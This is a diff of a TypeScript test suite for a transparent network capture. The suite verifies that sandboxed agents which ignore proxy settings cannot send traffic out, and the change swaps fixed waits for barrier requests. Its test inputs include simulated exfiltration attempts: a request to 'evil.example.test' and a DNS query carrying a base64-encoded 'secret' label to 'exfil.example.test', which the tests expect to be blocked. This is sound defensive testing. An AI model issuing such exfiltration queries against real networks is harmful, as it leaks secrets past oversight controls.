@@ -5,6 +5,7 @@
 import { expect } from "chai";
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
+import { eventually } from "./helpers/eventually.ts";
 import { background, NODE, scratchFile, type Background, type PodWorld } from "./helpers/netns.ts";
 import {
   AGENT_UID as AGENT,
@@ -38,16 +39,40 @@ describe("transparent capture (root, netns): agents that ignore proxy settings",
   let sidecarArgs: string[];
   const dnsLog = () => harness.dnsLog();
   const records = (): WorldRecord[] => worldRecords<WorldRecord>(upstreams);
-  /** Records after index `from` whose URL starts with `path`: waits up to `ms` for the first one. */
-  const recordsFor = async (from: number, path: string, ms: number): Promise<WorldRecord[]> => {
-    const deadline = Date.now() + ms;
-    for (;;) {
-      const got = records()
+  /** Records after index `from` whose URL starts with `path`: waits up to 3 s for the first one. */
+  const recordsFor = async (from: number, path: string): Promise<WorldRecord[]> => {
+    const matching = () =>
+      records()
         .slice(from)
         .filter((r) => r.url?.startsWith(path));
-      if (got.length > 0 || Date.now() >= deadline) return got;
-      await new Promise((resolve) => setTimeout(resolve, 25));
-    }
+    return eventually(
+      () => {
+        expect(matching(), `a record of ${path}`).to.not.deep.equal([]);
+        return matching();
+      },
+      { timeoutMs: 3000, intervalMs: 25 },
+    ).catch(() => matching()); // none: the caller says what that means
+  };
+  let barriers = 0;
+  /**
+   * Records after index `from` that came before a barrier: an allowed request the agent makes now,
+   * whose record the world prints after that of anything the agent sent before (the world prints
+   * a request's record before answering it, all on one stdout).
+   */
+  const recordsBeforeBarrier = async (from: number): Promise<WorldRecord[]> => {
+    barriers++;
+    const path = `/barrier-${String(barriers)}`;
+    const res = await curl([`http://registry.example.test${path}`]);
+    expect(res.stdout, res.stderr).to.match(/\n200$/);
+    return eventually(
+      () => {
+        const got = records().slice(from);
+        const at = got.findIndex((r) => r.url === path);
+        expect(at, `the record of ${path}`).to.not.equal(-1);
+        return got.slice(0, at);
+      },
+      { timeoutMs: 3000, intervalMs: 25, what: "the barrier request's record" },
+    );
   };
   const agentEnv = (): Record<string, string> => ({
     CURL_CA_BUNDLE: bundle,
@@ -103,7 +128,7 @@ describe("transparent capture (root, netns): agents that ignore proxy settings",
     expect(tls.code).to.not.equal(0);
     const plain = await curl(["--resolve", "evil.example.test:80:10.77.1.66", "http://evil.example.test/"]);
     expect(plain.stdout).to.match(/NoRuleMatched[\s\S]*\n403$/);
-    expect(records().slice(before)).to.deep.equal([]);
+    expect(await recordsBeforeBarrier(before)).to.deep.equal([]);
   });
 
   // Every client, every outcome, both schemes. `portonly` resolves (a rule names it, on another
@@ -142,13 +167,17 @@ describe("transparent capture (root, netns): agents that ignore proxy settings",
         if (client !== "git") expect(status, res.stderr).to.equal(c.status);
         expect(res.stdout + res.stderr).not.to.include(SECRET);
         const path = new URL(url).pathname;
-        // The world's record arrives on another process's stdout: give it a moment either way.
-        let got = await recordsFor(before, path, c.sent === "nothing" ? 300 : 3000);
+        // The world's record arrives on another process's stdout: wait for it, or (nothing to
+        // send) for a barrier request's record that would come after it.
+        let got =
+          c.sent === "nothing"
+            ? (await recordsBeforeBarrier(before)).filter((r) => r.url?.startsWith(path))
+            : await recordsFor(before, path);
         if (client === "git" && c.sent !== "nothing" && got.length === 0) {
           // git has been seen, rarely, to give up before sending anything; the cause is not yet
           // found. One retry, and this still fails if the second attempt sends nothing either.
           const again = await agent(command(url));
-          got = await recordsFor(before, path, 3000);
+          got = await recordsFor(before, path);
           expect(got.length, `first: ${res.stderr}\nsecond: ${again.stderr}`).to.be.at.least(1);
         }
         if (c.sent === "nothing") expect(got).to.deep.equal([]);
@@ -178,8 +207,7 @@ describe("transparent capture (root, netns): agents that ignore proxy settings",
     expect(steered.stdout).to.match(/\n200$/);
     const mismatch = await curl(["-H", "Host: registry.example.test", "https://api.example.test/x"]);
     expect(mismatch.stdout).to.match(/HostMismatch[\s\S]*\n403$/);
-    await recordsFor(before, "/steer", 3000);
-    const got = records().slice(before);
+    const got = await recordsBeforeBarrier(before);
     expect(got.map((r) => `${r.address} ${r.url ?? ""}`)).to.deep.equal(["10.77.1.10 /steer"]);
   });
 
@@ -196,8 +224,7 @@ describe("transparent capture (root, netns): agents that ignore proxy settings",
     const ping = await agent(["ping", "-c", "1", "-W", "1", pw.worldIp]);
     // 1 = sent, no reply (the capture rules dropped it); 2 would be an error before sending.
     expect(ping.code, ping.stderr).to.equal(1);
-    await new Promise((resolve) => setTimeout(resolve, 300));
-    expect(records().slice(before)).to.deep.equal([]);
+    expect(await recordsBeforeBarrier(before)).to.deep.equal([]);
     // A DNS query straight to the world's resolver is captured; the resolver never sees the name.
     const dig = await agent(["python3", "-c", DNS_QUERY, pw.worldIp, "c2VjcmV0.exfil.example.test"]);
     expect(dig.stdout.trim()).to.equal("rcode=3");
